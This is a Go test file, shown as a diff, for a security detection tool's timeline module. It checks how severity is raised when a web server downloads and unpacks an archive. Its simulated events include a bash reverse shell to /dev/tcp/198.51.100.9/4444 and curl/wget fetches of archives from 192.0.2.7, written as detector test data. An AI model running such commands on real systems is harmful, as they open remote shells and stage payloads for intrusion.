@@ -1,0 +1,78 @@
+package timeline
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/auditchain/auditchain/detect"
+)
+
+// TestCorroborate: a web server's fetch-and-unpack is high only when its
+// chain shows intent; alone it is what a plugin install does.
+func TestCorroborate(t *testing.T) {
+	for _, c := range []struct {
+		name string
+		// then adds what follows the install act (pid 300, a shell of
+		// worker1 at 10 s) to the scene
+		then func(s *sim, sh who)
+		want detect.Severity
+	}{
+		{"alone", func(*sim, who) {}, detect.SeverityMedium},
+		{"benign neighbours at medium", func(s *sim, sh who) {
+			s.find(s.connect(10.2, sh, "192.0.2.7", 80), detect.StageCommandAndControl, detect.SeverityMedium, "Web Outbound Connect")
+		}, detect.SeverityMedium},
+		{"a reverse shell follows", func(s *sim, sh who) {
+			s.find(s.exec(11, child(301, sh), "sh", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"),
+				detect.StageSuspiciousSpawn, detect.SeverityCritical, "Reverse Shell")
+		}, detect.SeverityHigh},
+		{"what it unpacked is run", func(s *sim, sh who) {
+			tool := child(302, sh)
+			tool.exe = "/tmp/kit/bin/sysd"
+			s.exec(12, tool, "/tmp/kit/bin/sysd", "--daemon")
+		}, detect.SeverityHigh},
+		{"a system program runs after it", func(s *sim, sh who) {
+			rm := child(303, sh)
+			rm.exe = "/usr/bin/rm"
+			s.exec(12, rm, "rm", "-f", "/tmp/plugin.tgz")
+		}, detect.SeverityMedium},
+		{"another staging act is no corroboration", func(s *sim, sh who) {
+			f := s.find(s.exec(13, child(304, sh), "sh", "-c", "wget -q -O /tmp/x.tgz http://192.0.2.7/x.tgz"),
+				detect.StageSuspiciousSpawn, detect.SeverityHigh, "Web Server Exploitation")
+			f.NeedsCorroboration = true
+		}, detect.SeverityMedium},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			s := newSim(t, Options{})
+			s.webServer()
+			sh := shellOf(300, worker1, "/var/www/html/admin")
+			sh.exe = "/usr/bin/dash"
+			f := s.find(s.exec(10, sh, "sh", "-c", "cd /tmp && curl -fsS -o plugin.tgz http://192.0.2.7/p.tgz && tar xzf plugin.tgz -C /var/www/html/plugins"),
+				detect.StageSuspiciousSpawn, detect.SeverityHigh, "Web Server Exploitation")
+			f.NeedsCorroboration = true
+			c.then(s, sh)
+			r := s.build()
+			var got *detect.Finding
+			for _, g := range r.Findings {
+				if g.Event == f.Event && g.RuleID == f.RuleID {
+					got = g
+				}
+			}
+			if got == nil {
+				t.Fatal("the install act is not among the result's findings")
+			}
+			if got.Severity != c.want {
+				dumpChains(t, r)
+				t.Fatalf("severity %s, want %s (reason: %s)", got.Severity, c.want, got.Reason)
+			}
+			if ch := chainOf(r, got); ch == nil {
+				t.Fatal("the result's copy is in no chain: the chain holds another")
+			}
+			if demoted := got.Severity < f.Severity; demoted != strings.Contains(got.Reason, "nothing in its chain shows intent") {
+				t.Errorf("reason %q does not say why it was kept at %s", got.Reason, got.Severity)
+			}
+			if f.Severity != detect.SeverityHigh {
+				t.Error("Build changed its input finding")
+			}
+		})
+	}
+}
